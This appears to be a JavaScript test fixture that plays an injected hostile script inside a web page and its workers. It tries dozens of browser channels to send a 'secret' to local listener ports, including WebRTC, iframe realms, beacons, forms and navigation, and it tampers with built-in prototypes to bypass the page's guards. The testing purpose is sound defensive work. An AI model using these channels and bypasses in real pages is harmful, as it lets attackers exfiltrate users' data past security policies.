// A hostile script: every way out of a page that its authors know. A test appends it to the page's own script, so that
// it runs in the page and in its workers as if it had been slipped in. Each way has a port of its own, where a listener
// waits: what counts is what arrives, not what a call says of itself.
(() => {
  const PORTS = "AZFLOW_PORTS";
  const at = (way, scheme = "http") => `${scheme}://127.0.0.1:${port(way)}/secret`;
  const own = (way) => `?secret=${way}`;
  const make = (name, set = {}) => Object.assign(document.createElement(name), set);
  const add = (name, set) => document.head.appendChild(make(name, set));
  const svg = "http://www.w3.org/2000/svg";

  // A peer connection asks a server on the way, by words of the script's choosing.
  const peer = (Peer, urls) => {
    const connection = new Peer({ iceServers: [{ urls, username: "secret", credential: "secret" }] });
    connection.createDataChannel("secret");
    connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    return connection;
  };
  const peerWays = (prefix, Peer) => ({
    [`${prefix}stun`]: () => peer(Peer(), `stun:127.0.0.1:${port(`${prefix}stun`)}`),
    [`${prefix}turn`]: () => peer(Peer(), `turn:127.0.0.1:${port(`${prefix}turn`)}?transport=udp`),
    [`${prefix}turn-tcp`]: () => peer(Peer(), `turn:127.0.0.1:${port(`${prefix}turn-tcp`)}?transport=tcp`),
  });

  // What both a window and a worker may have.
  const both = {
    fetch: (way) => fetch(at(way), { mode: "no-cors" }),
    "fetch-later": (way) => fetchLater(at(way), { activateAfter: 0 }),
    xhr: (way) => {
      const request = new XMLHttpRequest();
      request.open("GET", at(way));
      request.send();
    },
    websocket: (way) => new WebSocket(at(way, "ws")),
    "websocket-stream": (way) => new WebSocketStream(at(way, "ws")),
    events: (way) => new EventSource(at(way)),
    transport: (way) => new WebTransport(at(way, "https")),
    import: (way) => import(at(way)),
    font: (way) => new FontFace("secret", `url(${at(way)})`).load(),
    "own-fetch": (way) => fetch(own(way)),
    "own-worker": (way) => new Worker(own(way)),
    "own-service-worker": (way) => navigator.serviceWorker.register(own(way)),
  };
  // A frame has a realm of its own, with all that the window has given up.
  const frame = (made) => {
    (document.body ?? document.documentElement).append(made);
    return (made.contentWindow ?? self[0]).RTCPeerConnection;
  };
  const host = () => document.body.appendChild(make("div"));
  const inFrame = (made) => (way) => peer(frame(made()), `stun:127.0.0.1:${port(way)}`);
  const written = (write) => (way) => {
    const place = host();
    write(place, "<iframe></iframe>");
    return peer(place.querySelector("iframe").contentWindow.RTCPeerConnection, `stun:127.0.0.1:${port(way)}`);
  };

  const link = (rel, more) => (way) => add("link", { rel, href: at(way), ...more });
  // Elements that stand in the page already.
  const icon = (rel, scheme) => (way) => Object.assign(document.querySelector("link"), { rel, href: at(way, scheme) });
  const press = (made, way, set = {}) => {
    made.setAttribute("href", at(way));
    for (const [name, value] of Object.entries(set)) made.setAttribute(name, value);
    document.body.append(made);
    made.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true, composed: true }));
  };
  const ways = {
    ...both,
    ...peerWays("", () => RTCPeerConnection),
    ...peerWays("old-", () => webkitRTCPeerConnection),
    "frame-made": inFrame(() => make("iframe")),
    "frame-of-svg": inFrame(() => {
      const inside = document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe");
      const foreign = document.createElementNS(svg, "foreignObject");
      foreign.append(inside);
      document.body.appendChild(document.createElementNS(svg, "svg")).append(foreign);
      return inside;
    }),
    "frame-of-object": inFrame(() => make("object", { type: "text/html", data: "about:blank" })),
    "frame-of-embed": inFrame(() => make("embed", { type: "text/html", src: "about:blank" })),
    "frame-of-document": inFrame(() => {
      const made = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe");
      return document.adoptNode(made.documentElement);
    }),
    "frame-of-other-document": inFrame(() => document.implementation.createHTMLDocument("").createElement("iframe")),
    "frame-parsed": inFrame(() => new DOMParser().parseFromString("<iframe></iframe>", "text/html").body.firstChild),
    "frame-parsed-unsafe": inFrame(() => Document.parseHTMLUnsafe("<iframe></iframe>").body.firstChild),
    "frame-of-class": inFrame(() => {
      class Frame extends HTMLIFrameElement {}
      customElements.define("x-frame", Frame, { extends: "iframe" });
      return new Frame();
    }),
    "frame-inner": written((place, text) => { place.innerHTML = text; }),
    "frame-outer": written((place, text) => { place.appendChild(make("p")).outerHTML = text; }),
    "frame-adjacent": written((place, text) => place.insertAdjacentHTML("beforeend", text)),
    "frame-unsafe": written((place, text) => place.setHTMLUnsafe(text)),
    "frame-fragment": written((place, text) => {
      const range = document.createRange();
      range.selectNode(place);
      place.append(range.createContextualFragment(text));
    }),
    "frame-template": written((place, text) => {
      const template = make("template");
      template.innerHTML = text;
      place.append(template.content);
    }),
    "frame-command": written((place, text) => {
      place.contentEditable = "true";
      place.focus();
      document.execCommand("insertHTML", false, text);
    }),
    "frame-of-window": (way) => peer(open("").RTCPeerConnection, `stun:127.0.0.1:${port(way)}`),
    beacon: (way) => navigator.sendBeacon(at(way), "secret"),
    image: (way) => { new Image().src = at(way); },
    "image-of-svg": (way) => {
      const image = document.createElementNS(svg, "image");
      image.setAttribute("href", at(way));
      document.body.appendChild(document.createElementNS(svg, "svg")).append(image);
    },
    background: (way) => { host().style.background = `url(${at(way)})`; },
    video: (way) => host().append(make("video", { src: at(way), autoplay: true, muted: true })),
    audio: (way) => host().append(make("audio", { src: at(way), preload: "auto", controls: true })),
    script: (way) => add("script", { src: at(way) }),
    module: (way) => add("script", { src: at(way), type: "module" }),
    rules: (way) => add("script", {
      type: "speculationrules",
      textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [at(way)] }] }),
    }),
    style: link("stylesheet"),
    "style-import": (way) => add("style", { textContent: `@import "${at(way)}";` }),
    "style-made": (way) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${at(way)}) }`);
      document.adoptedStyleSheets = [sheet];
    },
    icon: link("icon"),
    manifest: link("manifest"),
    prefetch: link("prefetch"),
    prerender: link("prerender"),
    preload: link("preload", { as: "image" }),
    "preload-module": link("modulepreload"),
    preconnect: link("preconnect"),
    "preconnect-tls": (way) => add("link", { rel: "preconnect", href: at(way, "https") }),
    "preconnect-of-icon": icon("preconnect"),
    frame: (way) => document.body.append(make("iframe", { src: at(way) })),
    object: (way) => document.body.append(make("object", { data: at(way) })),
    embed: (way) => document.body.append(make("embed", { src: at(way) })),
    "own-shared-worker": (way) => new SharedWorker(own(way)),
    "own-frame": (way) => document.body.append(make("iframe", { src: own(way) })),
    "worker-of-own": (way) => {
      const text = `fetch("${at(way)}", { mode: "no-cors" })`;
      return new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
    },
    payment: (way) => {
      const total = { label: "", amount: { currency: "EUR", value: "1" } };
      return new PaymentRequest([{ supportedMethods: at(way) }], { total }).canMakePayment();
    },
    identity: (way) =>
      navigator.credentials.get({ identity: { providers: [{ configURL: at(way), clientId: "secret" }] } }),
    form: (way) => document.body.appendChild(make("form", { action: at(way) })).submit(),
    "form-elsewhere": (way) => document.body.appendChild(make("form", { action: at(way), target: "_blank" })).submit(),
    ping: (way) => press(make("a"), way, { href: "#", ping: at(way) }),
    // From here on each would leave the page, if nobody answered that there is nothing there.
    window: (way) => open(at(way)),
    "window-of-document": (way) => document.open(at(way), "", ""),
    location: (way) => { location = at(way); },
    href: (way) => { location.href = at(way); },
    assign: (way) => location.assign(at(way)),
    replace: (way) => location.replace(at(way)),
    navigate: (way) => navigation.navigate(at(way)),
    link: (way) => press(make("a"), way),
    "link-elsewhere": (way) => press(make("a"), way, { target: "_blank" }),
    "link-area": (way) => press(make("area"), way),
    "link-of-svg": (way) => press(document.createElementNS(svg, "a"), way),
    "link-of-math": (way) => press(document.createElementNS("http://www.w3.org/1998/Math/MathML", "mi"), way),
    "link-safe": (way) => {
      const place = host();
      place.setHTML(`<a href="${at(way)}">.</a>`);
      place.firstChild.click();
    },
    download: (way) => press(make("a"), way, { download: "secret" }),
    refresh: (way) => add("meta", { httpEquiv: "refresh", content: `0;url=${at(way)}` }),
    "refresh-of-page": (way) => {
      const meta = document.querySelector('meta[name="description"]');
      Object.assign(meta, { httpEquiv: "refresh", content: `0;url=${at(way)}` });
    },
    // With what guards the page replaced by what doesn't.
    "location-unguarded": (way) => {
      const { startsWith } = String.prototype;
      Event.prototype.preventDefault = () => {};
      String.prototype.startsWith = function (begin) {
        return startsWith.call(this, "http:") || startsWith.call(this, begin);
      };
      if (!self.NavigateEvent) return;
      Object.defineProperty(NavigateEvent.prototype, "destination", { get: () => ({ url: location.href }) });
      Object.defineProperty(NavigationDestination.prototype, "url", { get: () => location.href });
      location = at(way);
    },
    "frame-unguarded": inFrame(() => {
      Object.defineProperty(Element.prototype, "localName", { get: () => "p" });
      return make("iframe");
    }),
    // To the page's own server, in front of the `#`.
    "own-address": (way) => { location.search = own(way); },
    "own-history": (way) => {
      history.replaceState(null, "", own(way));
      location.reload();
    },
  };

  const inWorker = { ...both, "import-scripts": (way) => importScripts(at(way)) };
  const names = [...Object.keys(inWorker).map((name) => `in-worker-${name}`), ...Object.keys(ways)];
  const port = (way) => PORTS[names.indexOf(way)];
  const attempt = (ways, way, name) => {
    try {
      Promise.resolve(ways[name](way)).catch(() => {});
    } catch {
      // It is refused.
    }
  };


  if (typeof document === "undefined") {
    Object.keys(inWorker).forEach((name) => attempt(inWorker, `in-worker-${name}`, name));
    return;
  }
  // The test says which way is next: timers sleep in a window that another one covers.
  addEventListener("azflow-way", () => {
    const way = document.documentElement.dataset.way;
    attempt(ways, way, way);
  });
  document.documentElement.dataset.ways = names.join(" ");
})();
